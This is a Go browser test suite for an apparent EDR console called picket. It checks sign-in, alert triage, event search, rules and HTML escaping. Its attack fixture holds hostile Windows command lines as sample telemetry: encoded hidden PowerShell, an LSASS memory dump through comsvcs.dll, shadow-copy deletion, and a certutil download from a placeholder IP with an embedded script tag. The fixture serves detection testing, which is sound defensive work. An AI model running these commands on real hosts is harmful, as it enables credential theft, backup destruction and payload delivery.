// Package test tests the picket program in a real browser and with third-party
// clients. It is a separate module, so that their packages are no dependencies of
// picket.
package test

import (
	"bufio"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/picket-edr/picket/internal/testenv"
)

var screenshots = flag.String("screenshots", "", "write screenshots of the pages to this `DIR`")

// A server is a running picket serve.
type server struct {
	url, data, password string
	bin                 string
}

// start starts picket serve on a free port with the built-in rules.
func start(t *testing.T, args ...string) *server {
	t.Helper()
	return startOn(t, filepath.Join(t.TempDir(), "data"), args...)
}

// startOn is start with a data directory that may exist.
func startOn(t testing.TB, data string, args ...string) *server {
	t.Helper()
	s := &server{data: data, bin: binary(t)}
	cmd := exec.Command(s.bin, append([]string{"serve", "--data", s.data, "--listen", "127.0.0.1:0", "--log-level", "warn"}, args...)...)
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Signal(os.Interrupt)
		if err := cmd.Wait(); err != nil {
			t.Errorf("picket serve: %v", err)
		}
	})
	// It prints the console's URL once it listens, the password before.
	var output strings.Builder
	for lines := bufio.NewScanner(stdout); s.url == "" && lines.Scan(); {
		_, s.url, _ = strings.Cut(lines.Text(), "console: ")
		output.WriteString(lines.Text() + "\n")
	}
	go io.Copy(io.Discard, stdout)
	m := regexp.MustCompile(`password (\S+)`).FindStringSubmatch(output.String())
	if s.url == "" || m == nil {
		t.Fatalf("no URL or password in %q", output.String())
	}
	s.password = m[1]
	return s
}

// picket runs another command on the server's data directory.
func (s *server) picket(t testing.TB, args ...string) string {
	t.Helper()
	out, err := exec.Command(s.bin, append(args, "--data", s.data)...).Output()
	if err != nil {
		t.Fatalf("picket %v: %v", args, err)
	}
	return strings.TrimSpace(string(out))
}

// post posts events, and waits until the server has processed them.
func (s *server) post(t *testing.T, events ...map[string]any) {
	t.Helper()
	token := s.picket(t, "token", "create", "--collector", "test")
	body, err := json.Marshal(events)
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("POST", s.url+"/api/v1/telemetry/", strings.NewReader(string(body)))
	req.Header.Set("Authorization", "Token "+token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	answer, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("%d: %s", resp.StatusCode, answer)
	}
	testenv.Until(t, "the queue is empty", func() bool {
		resp, err := http.Get(s.url + "/metrics")
		if err != nil {
			t.Fatal(err)
		}
		text, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return strings.Contains(string(text), "\npicket_events_waiting 0\n")
	})
}

// attackEvents are the events of an attack on a few hosts.
func attackEvents() []map[string]any {
	var events []map[string]any
	at := time.Now().Add(-50 * time.Minute)
	n := 0
	add := func(host, image, parent, command string) {
		n++
		at = at.Add(time.Duration(20+n%40) * time.Second)
		events = append(events, map[string]any{
			"agent_id": host, "event_id": fmt.Sprintf("story-%d", n), "event_type": "process", "timestamp": at.Unix(), "severity": "info", "version": "1.0",
			"host":    map[string]any{"hostname": host, "os": "Windows", "os_version": "11"},
			"process": map[string]any{"name": image, "pid": 4000 + n, "command_line": command, "user": `CORP\ann`, "parent_image": parent, "action": "created"},
		})
	}
	const s32 = `C:\Windows\System32\`
	for i := range 60 {
		add(fmt.Sprintf("WS-%03d", i%7), s32+"svchost.exe", s32+"services.exe", fmt.Sprintf("svchost.exe -k netsvcs -p -s Svc%d", i))
	}
	add("WS-003", s32+"cmd.exe", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `cmd /c powershell -w hidden -e aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkA`)
	add("WS-003", s32+`WindowsPowerShell\v1.0\powershell.exe`, s32+"cmd.exe", `powershell -w hidden -e aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkA`)
	add("WS-003", s32+"whoami.exe", s32+"cmd.exe", "whoami /all")
	add("WS-003", s32+"nltest.exe", s32+"cmd.exe", "nltest /domain_trusts")
	add("WS-003", s32+"rundll32.exe", s32+"cmd.exe", `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\t\l.dmp full`)
	add("SRV-01", s32+"cmd.exe", `C:\Windows\PSEXESVC.exe`, "cmd.exe /c hostname")
	add("SRV-01", s32+"vssadmin.exe", s32+"cmd.exe", "vssadmin delete shadows /all /quiet")
	add("WS-005", s32+"certutil.exe", s32+"cmd.exe", `certutil -urlcache -split -f http://203.0.113.5/<script>alert(1)</script>.exe a.exe`)
	return events
}

// browser starts a headless Chromium, or skips the test.
func browser(t *testing.T) context.Context {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		testenv.Skip(t, "chromium in the path; apt-get install chromium")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.WindowSize(1280, 860), chromedp.UserDataDir(t.TempDir()))
	ctx, cancel := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil { // starts it
		t.Fatalf("start the browser: %v", err)
	}
	return ctx
}

func TestConsole(t *testing.T) {
	t.Parallel()
	ctx := browser(t)
	s := start(t)
	s.post(t, attackEvents()...)
	s.post(t, map[string]any{"event_type": "process", "process": map[string]any{"name": "x"}}, map[string]any{"event_type": "other", "agent_id": "WS-000", "event_id": "fine"})

	// An exception in a page's script fails the test.
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*runtime.EventExceptionThrown); ok {
			t.Errorf("exception in the page: %v", e.ExceptionDetails)
		}
	}); err != nil {
		t.Fatal(err)
	}
	run := func(what string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		step, cancel := context.WithTimeout(ctx, testenv.Timeout)
		defer cancel()
		if err := chromedp.Do(step, actions...); err != nil {
			body, _ := chromedp.Run(ctx, chromedp.Text("body"))
			at, _ := chromedp.Run(ctx, chromedp.Location())
			t.Fatalf("%s: %v; %s is\n%s", what, err, at, body)
		}
	}
	shot := func(name string) {
		if *screenshots == "" {
			return
		}
		png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
		if err != nil {
			t.Fatalf("screenshot of %s: %v", name, err)
		}
		if err := os.WriteFile(filepath.Join(*screenshots, name+".png"), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	text := func() string {
		body, err := chromedp.Run(ctx, chromedp.Text("body"))
		if err != nil {
			t.Fatalf("read the page: %v", err)
		}
		return body
	}
	wants := func(page string, wanted ...string) {
		t.Helper()
		body := text()
		for _, w := range wanted {
			if !strings.Contains(body, w) {
				t.Errorf("%s: no %q in\n%s", page, w, body)
			}
		}
	}

	// A wrong password is rejected with a message.
	run("open", chromedp.Navigate(s.url+"/console/alerts"), chromedp.WaitVisible("form.signin"))
	run("sign in wrongly", chromedp.SendKeys("input[name=name]", "admin"), chromedp.SendKeys("input[name=password]", "wrong"+kb.Enter), chromedp.WaitVisible(".problem"))
	wants("sign-in", "Wrong name or password")
	shot("signin")
	run("sign in", chromedp.Navigate(s.url+"/console/sign-in"), chromedp.SendKeys("input[name=name]", "admin"),
		chromedp.SendKeys("input[name=password]", s.password+kb.Enter), chromedp.WaitVisible(".tiles"))
	wants("overview", "open alerts", "Shadow Copies or Backups Deleted", "8 / 8")
	shot("overview")

	// Alerts: the list, the filter, one alert with its evidence, and triage.
	run("alerts by keys", chromedp.KeyEvent("g"), chromedp.KeyEvent("a"), chromedp.WaitVisible("form.filters select"))
	wants("alerts", "Credentials Dumped From LSASS by Command Line", "SRV-01", "WS-003")
	shot("alerts")
	run("filter", chromedp.SetValue("select[name=level]", "critical"), chromedp.Click("form.filters button"), chromedp.WaitVisible("form.filters a"))
	if body := text(); strings.Contains(body, "PsExec Service") {
		t.Error("the filter by level shows other alerts")
	}
	run("open one", chromedp.KeyEvent("j"), chromedp.KeyEvent(kb.Enter), chromedp.WaitVisible("dl.facts"))
	wants("alert", "CommandLine", "Status", "Triage")
	run("its event", chromedp.Click("details summary"), chromedp.WaitVisible("details pre"))
	shot("alert")
	run("triage", chromedp.SetValue("select[name=status]", "resolved"), chromedp.SendKeys("textarea", "Cleaned."), chromedp.Click("aside form button"), chromedp.WaitVisible(".note"))
	wants("triaged alert", "resolved", "Cleaned.")
	run("its rule", chromedp.Click("dl.facts a[href^='/console/rules/']"), chromedp.WaitVisible("pre.whole"))
	wants("rule", "detection:", "enabled", "1 alert, 0 not closed, with 1 match", "windows process_creation", "Newest alerts")
	shot("rule")

	// Several alerts at once: those checked by mouse and key, and those that a filter selects.
	run("check two", chromedp.Navigate(s.url+"/console/alerts"), chromedp.Click("td.check input"), chromedp.KeyEvent("j"), chromedp.KeyEvent("j"), chromedp.KeyEvent("x"),
		chromedp.WaitVisible(".bulk"))
	wants("bulk bar", "Change selected (2)")
	shot("bulk")
	run("change two", chromedp.SetValue("select[name=set_assignee]", "admin"), chromedp.SendKeys("input[name=note]", "Looking into it."), chromedp.Click("button[value=selected]"),
		chromedp.WaitVisible("td a[href$='assignee=admin']"), chromedp.Click("td a[href$='assignee=admin']"), chromedp.WaitNotPresent("tbody tr:nth-child(3)"))
	wants("assigned alerts", "admin")
	run("all that match", chromedp.SetValue("select[name=set_status]", "false_positive"), chromedp.Click("button[value=matching]"), chromedp.WaitVisible("main .buttons"))
	wants("confirmation", "Change 2 alerts?", "false positive")
	shot("confirm")
	run("confirm", chromedp.Click("main .buttons button"), chromedp.WaitVisible(".empty"))
	run("changed", chromedp.Navigate(s.url+"/console/alerts?status=false_positive&since=1d"), chromedp.WaitVisible("tbody tr:nth-child(2)"))
	shot("filtered")

	// Events are escaped: certutil's command line contains a script.
	run("search by key", chromedp.Navigate(s.url+"/console/events"), chromedp.WaitVisible("input[name=q]"), chromedp.KeyEvent("/"), chromedp.WaitVisible("input[name=q]:focus"))
	run("search", chromedp.SendKeys("input[name=q]", kb.Backspace+`Image=*\certutil.exe`+kb.Enter), chromedp.WaitVisible("td.line"))
	wants("events", "<script>alert(1)</script>")
	run("event", chromedp.Click("a.row"), chromedp.WaitVisible("pre"))
	wants("event", "CommandLine", "Certutil")
	shot("event")
	run("a time range", chromedp.Navigate(s.url+"/console/events?since=2h"), chromedp.WaitVisible("td.line"))
	shot("events")
	run("none before", chromedp.SetValue("input[name=until]", "2020-01-01"), chromedp.Click("form.filters button"), chromedp.WaitVisible(".empty"))
	run("a wrong query", chromedp.Navigate(s.url+"/console/events?q=%28a"), chromedp.WaitVisible(".problem"))

	run("hosts", chromedp.Navigate(s.url+"/console/hosts"), chromedp.WaitVisible(".dot.on"))
	wants("hosts", "WS-006", "SRV-01", "windows")
	run("rules", chromedp.Navigate(s.url+"/console/rules?q=t1490"), chromedp.WaitVisible("table.list"), chromedp.Click("table form button"), chromedp.WaitVisible("tr.off"))
	run("rules again", chromedp.Navigate(s.url+"/console/rules?q=t1490"), chromedp.WaitVisible("tr.off"))
	shot("rules")

	run("one rule", chromedp.Click("a.row"), chromedp.WaitVisible("dl.facts"))
	wants("rule", "disabled", "none")
	run("enable it", chromedp.Click("aside form button"), chromedp.WaitVisible("aside button.danger"))
	run("no such page", chromedp.Navigate(s.url+"/console/nope"), chromedp.WaitVisible("main .card"))
	wants("no such page", "404 Not Found", "there is no page /console/nope")

	// The rejected event is a dead letter, which can be deleted.
	run("queue", chromedp.Navigate(s.url+"/console/queue"), chromedp.WaitVisible("table.flow"))
	wants("queue", "rejected", "This field is required.")
	shot("queue")
	run("delete a dead letter", chromedp.Click("td form button.danger"), chromedp.WaitVisible(".empty"))
	wants("queue", "None. What can't be processed")

	// The dark color scheme.
	run("dark", chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: "dark"}},
		})
		return err
	}),
		chromedp.Navigate(s.url+"/console/"), chromedp.WaitVisible(".tiles"))
	background, err := chromedp.Run(ctx, chromedp.Evaluate[string](`getComputedStyle(document.documentElement).backgroundColor`))
	if err != nil {
		t.Fatal(err)
	}
	if background != "rgb(18, 22, 26)" {
		t.Errorf("dark background is %s", background)
	}
	shot("dark")
	// A narrow screen leaves columns out, and does not scroll sideways.
	run("narrow", chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, emulation.SetDeviceMetricsOverride, emulation.SetDeviceMetricsOverrideParams{Width: 420, Height: 800, DeviceScaleFactor: 1})
		return err
	}))
	for _, page := range []string{"alerts", "events"} {
		run(page+" on a narrow screen", chromedp.Navigate(s.url+"/console/"+page), chromedp.WaitVisible("table.list"))
		if width, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.documentElement.scrollWidth`)); err != nil || width > 420 {
			t.Errorf("%s on a narrow screen is %d pixels wide, %v", page, width, err)
		}
		shot("narrow-" + page)
	}
	run("sign out", chromedp.Click("form.who button"), chromedp.WaitVisible("form.signin"))
}

// An open page shows a new alert without being reloaded.
func TestLive(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(browser(t), 2*testenv.Timeout)
	defer cancel()
	s := start(t)
	if err := chromedp.Do(ctx, chromedp.Navigate(s.url+"/console/sign-in"), chromedp.SendKeys("input[name=name]", "admin"),
		chromedp.SendKeys("input[name=password]", s.password+kb.Enter), chromedp.WaitVisible(".tiles"),
		chromedp.Navigate(s.url+"/console/alerts"), chromedp.WaitVisible(".empty")); err != nil {
		t.Fatal(err)
	}
	s.post(t, attackEvents()...)
	if err := chromedp.Do(ctx, chromedp.WaitVisible("table.list a.row")); err != nil {
		t.Fatalf("the page does not show the new alert: %v", err)
	}
}
